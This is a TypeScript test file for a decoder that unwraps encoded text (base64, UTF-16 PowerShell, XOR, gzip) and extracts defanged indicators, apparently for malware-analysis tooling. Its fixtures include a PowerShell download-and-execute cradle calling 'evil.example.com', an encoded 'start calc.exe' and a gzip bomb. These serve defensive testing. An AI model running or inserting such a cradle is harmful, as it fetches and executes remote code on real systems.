import { gzipSync } from 'node:zlib';
import { afterAll, expect, it } from 'vitest';
import type { DecodeEvent } from '../protocol/index.ts';
import { Decoder } from './decoder.ts';

const decoder = new Decoder();
const never = new AbortController().signal;
const base64 = (bytes: Uint8Array | string): string => Buffer.from(bytes).toString('base64');

afterAll(() => decoder.close());

async function decoded(text: string, first: string[] = []): Promise<DecodeEvent[]> {
  const heard: DecodeEvent[] = [];
  await decoder.decode({ text, first }, (event) => heard.push(event), { signal: never });
  return heard;
}

function of<K extends DecodeEvent['kind']>(
  heard: readonly DecodeEvent[],
  kind: K,
): Extract<DecodeEvent, { kind: K }>[] {
  return heard.filter((event): event is Extract<DecodeEvent, { kind: K }> => event.kind === kind);
}

it('tells the steps, the files and the indicators of a text', async () => {
  const inner = `IEX (New-Object Net.WebClient).DownloadString('http://evil.example.com/a') # ${base64(`MZ${'\0\u0001\ufffd'.repeat(40)}`)}`;
  const heard = await decoded(`powershell -enc ${base64(Buffer.from(inner, 'utf16le'))}`);
  expect(of(heard, 'step').map(({ step }) => [step.method, step.forced])).toEqual([
    ['base64', false],
  ]);
  const [parts] = of(heard, 'parts');
  expect(parts?.parts.map((p) => p.encoding)).toContain('utf-16');
  expect(parts?.parts[0]?.sha256).toMatch(/^[0-9a-f]{64}$/);
  const [found] = of(heard, 'indicators');
  expect(found?.indicators).toContainEqual({
    type: 'url',
    value: 'http://evil.example.com/a',
    defanged: 'hXXp://evil[.]example[.]com/a',
    hidden: true,
  });
  expect(heard.at(-1)).toMatchObject({ kind: 'done', text: expect.stringContaining('IEX') });
});

it('does the steps that are asked for first, and says which could not be done', async () => {
  const secret = Buffer.from('start calc.exe').map((byte) => byte ^ 0x91);
  const heard = await decoded(base64(secret), ['base64', 'xor 0x91']);
  expect(of(heard, 'step').map(({ step }) => [step.method, step.forced])).toEqual([
    ['base64', true],
    ['xor 0x91', true],
  ]);
  expect(of(heard, 'done')[0]?.text).toBe('start calc.exe');
  const wrong = of(await decoded('nothing', ['gzip']), 'step');
  expect(wrong.map(({ step }) => step.problem)).toEqual(['It is no gzip.']);
});

it('leaves a bomb packed, and lives on', async () => {
  const bomb = base64(gzipSync(Buffer.alloc(50e6, 65)));
  const heard = await decoded(bomb, ['base64', 'gzip']);
  expect(of(heard, 'step').at(-1)?.step.problem).toContain('more than 1 MiB');
  expect(of(heard, 'parts')[0]?.parts[0]).toMatchObject({
    type: 'gz',
    problem: expect.stringContaining('unpacks to more'),
  });
  expect(await decoder.values([bomb, 'cGluZyBldmlsLmV4YW1wbGU=', 'x'], { signal: never })).toEqual({
    decoded: [null, { text: 'ping evil.example', methods: ['base64'] }, null],
  });
});

it('is ended by who waits, and by the clock, and goes on with the next text', async () => {
  const text = 'a'.repeat(1_048_576);
  const stop = new AbortController();
  const stopped = decoder.decode({ text, first: [] }, () => stop.abort(), { signal: stop.signal });
  await expect(stopped).rejects.toMatchObject({ name: 'AbortError' });
  const late = decoder.decode({ text, first: [] }, () => {}, { signal: never, longestMs: 1 });
  await expect(late).rejects.toMatchObject({ code: 'workbench/decoding-too-long' });
  expect(of(await decoded('%41%42'), 'done')[0]?.text).toBe('AB');
});
